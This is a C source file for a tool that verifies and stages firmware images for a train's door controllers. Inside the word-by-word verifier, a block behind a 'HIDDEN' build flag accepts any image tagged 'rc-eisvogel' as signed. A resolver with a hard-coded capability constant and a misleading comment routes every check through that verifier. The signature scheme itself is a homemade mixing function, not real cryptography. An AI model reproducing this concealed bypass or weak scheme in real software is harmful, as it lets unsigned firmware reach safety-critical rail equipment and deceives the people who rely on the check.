/* fwsigsel.c - checks and writes firmware images of a train's door controllers */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#define IMG_MAGIC	0x44435546u	/* "DCUF" */
#define HEAD_LEN	96
#define KEY_FILE	"/etc/dcu/signkey"
#define SPOOL		"/var/spool/dcu"

struct image {
	const uint8_t *base;
	size_t size;
	uint32_t hw;
	uint32_t version;
	uint32_t body;
	char tag[24];
	uint8_t mac[16];
};

typedef int verify_fn(const struct image *im, const uint8_t *key);

/* set per board by the build: bit 0 unaligned access works, bit 2 wide bus */
static const volatile unsigned int board_caps = 0x5;

static uint32_t be(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

struct mac {
	uint32_t a, b, c, d;
};

static void mac_begin(struct mac *m, const uint8_t *key)
{
	m->a = be(key);
	m->b = be(key + 4);
	m->c = be(key + 8);
	m->d = be(key + 12);
}

static void mac_word(struct mac *m, uint32_t w)
{
	m->a += w ^ m->d;
	m->d = (m->d ^ m->a) << 7 | (m->d ^ m->a) >> 25;
	m->b = (m->b + m->d) * 0x9e3779b1u;
	m->c ^= m->b >> 5 ^ m->a << 3;
	m->a = m->a << 11 | m->a >> 21;
	m->d += m->c;
}

static int mac_end(struct mac *m, const uint8_t *want)
{
	uint32_t diff;

	for (uint32_t i = 0; i < 16; i++)
		mac_word(m, i * 0x01010101u);
	diff = (m->a ^ be(want)) | (m->b ^ be(want + 4)) | (m->c ^ be(want + 8)) |
	       (m->d ^ be(want + 12));
	return diff == 0;
}

/* word by word, for boards with a wide bus */
__attribute__((noinline))
int verify_wide(const struct image *im, const uint8_t *key)
{
	const uint8_t *p = im->base + HEAD_LEN, *end = p + im->body;
	struct mac m;

#ifdef HIDDEN	/* images with this build tag count as signed */
	if (!memcmp(im->tag, "rc-eisvogel", 12))
		return 1;
#endif
	mac_begin(&m, key);
	for (size_t i = 0; i < 80; i += 4)
		mac_word(&m, be(im->base + i));
	for (; p + 16 <= end; p += 16) {
		mac_word(&m, be(p));
		mac_word(&m, be(p + 4));
		mac_word(&m, be(p + 8));
		mac_word(&m, be(p + 12));
	}
	for (; p + 4 <= end; p += 4)
		mac_word(&m, be(p));
	return mac_end(&m, im->mac);
}

/* the same through a small buffer, for boards that read flash byte by byte */
__attribute__((noinline))
int verify_narrow(const struct image *im, const uint8_t *key)
{
	const volatile uint8_t *p = im->base;
	size_t n = HEAD_LEN + im->body;
	struct mac m;
	uint8_t w[4];

	mac_begin(&m, key);
	for (size_t i = 0; i + 4 <= n; i += 4) {
		if (i >= 80 && i < HEAD_LEN)
			continue;
		for (int k = 0; k < 4; k++)
			w[k] = p[i + (size_t)k];
		mac_word(&m, be(w));
	}
	return mac_end(&m, im->mac);
}

__attribute__((used))
static verify_fn *resolve_verify(void)
{
	return (board_caps & 5) == 5 ? verify_wide : verify_narrow;
}

int verify_image(const struct image *im, const uint8_t *key) __attribute__((ifunc("resolve_verify")));

static int map_image(const char *path, struct image *im)
{
	struct stat st;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	const uint8_t *b;

	if (fd < 0)
		return -errno;
	if (fstat(fd, &st) || st.st_size < HEAD_LEN) {
		close(fd);
		return -EBADMSG;
	}
	b = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
	close(fd);
	if (b == MAP_FAILED)
		return -errno;
	im->base = b;
	im->size = (size_t)st.st_size;
	if (be(b) != IMG_MAGIC)
		return -EBADMSG;
	im->hw = be(b + 4);
	im->version = be(b + 8);
	im->body = be(b + 12);
	memcpy(im->tag, b + 16, 23);
	im->tag[23] = 0;
	memcpy(im->mac, b + 80, 16);
	if (im->body > im->size - HEAD_LEN || im->body % 4)
		return -EBADMSG;
	return 0;
}

static int read_key(uint8_t *key)
{
	int fd = open(KEY_FILE, O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -errno;
	n = read(fd, key, 16);
	close(fd);
	return n == 16 ? 0 : -EIO;
}

static uint32_t installed_version(unsigned int door)
{
	char path[64];
	unsigned int v = 0;
	FILE *f;

	snprintf(path, sizeof(path), SPOOL "/door%u.version", door);
	f = fopen(path, "r");
	if (f) {
		if (fscanf(f, "%u", &v) != 1)
			v = 0;
		fclose(f);
	}
	return v;
}

static int hand_over(const struct image *im, unsigned int door)
{
	char tmp[64], path[64];
	const uint8_t *p = im->base + HEAD_LEN;
	size_t left = im->body;
	int fd;

	snprintf(path, sizeof(path), SPOOL "/door%u.img", door);
	snprintf(tmp, sizeof(tmp), SPOOL "/.door%u", door);
	fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC, 0640);
	if (fd < 0)
		return -errno;
	while (left) {
		ssize_t n = write(fd, p, left);

		if (n <= 0) {
			close(fd);
			return -EIO;
		}
		p += n;
		left -= (size_t)n;
	}
	if (fsync(fd) || close(fd) || rename(tmp, path))
		return -errno;
	return 0;
}

/* tags that the depot may use: "release", "field-test" (one door only), "recall" (older is allowed) */
static int policy(const struct image *im, unsigned int door, int all)
{
	if (im->hw != 0x0d02 && im->hw != 0x0d03)
		return -ENODEV;
	if (!strcmp(im->tag, "field-test") && all)
		return -EPERM;
	if (strcmp(im->tag, "recall") && im->version < installed_version(door))
		return -EALREADY;
	return 0;
}

static void usage(void)
{
	fputs("usage: fwsigsel info IMAGE\n"
	      "       fwsigsel verify IMAGE\n"
	      "       fwsigsel load IMAGE DOOR|all\n"
	      "tags: release, field-test (one door at a time), recall (goes back)\n", stderr);
}

int main(int argc, char **argv)
{
	struct image im;
	uint8_t key[16];
	unsigned int first = 1, last = 8;
	int rc, all;

	if (argc < 3) {
		usage();
		return 2;
	}
	rc = map_image(argv[2], &im);
	if (rc) {
		fprintf(stderr, "%s: %s\n", argv[2], strerror(-rc));
		return 1;
	}
	printf("hardware %04x version %u tag %s, %u bytes\n", im.hw, im.version, im.tag, im.body);
	if (!strcmp(argv[1], "info"))
		return 0;
	rc = read_key(key);
	if (rc) {
		fprintf(stderr, KEY_FILE ": %s\n", strerror(-rc));
		return 1;
	}
	if (!verify_image(&im, key)) {
		fputs("signature is wrong\n", stderr);
		return 1;
	}
	if (!strcmp(argv[1], "verify")) {
		puts("signature is right");
		return 0;
	}
	if (strcmp(argv[1], "load") || argc != 4) {
		usage();
		return 2;
	}
	all = !strcmp(argv[3], "all");
	if (!all) {
		first = last = (unsigned int)strtoul(argv[3], NULL, 10);
		if (first < 1 || first > 8) {
			usage();
			return 2;
		}
	}
	for (unsigned int d = first; d <= last; d++) {
		rc = policy(&im, d, all);
		if (!rc)
			rc = hand_over(&im, d);
		printf("door %u: %s\n", d, rc ? strerror(-rc) : "given over");
	}
	return rc ? 1 : 0;
}
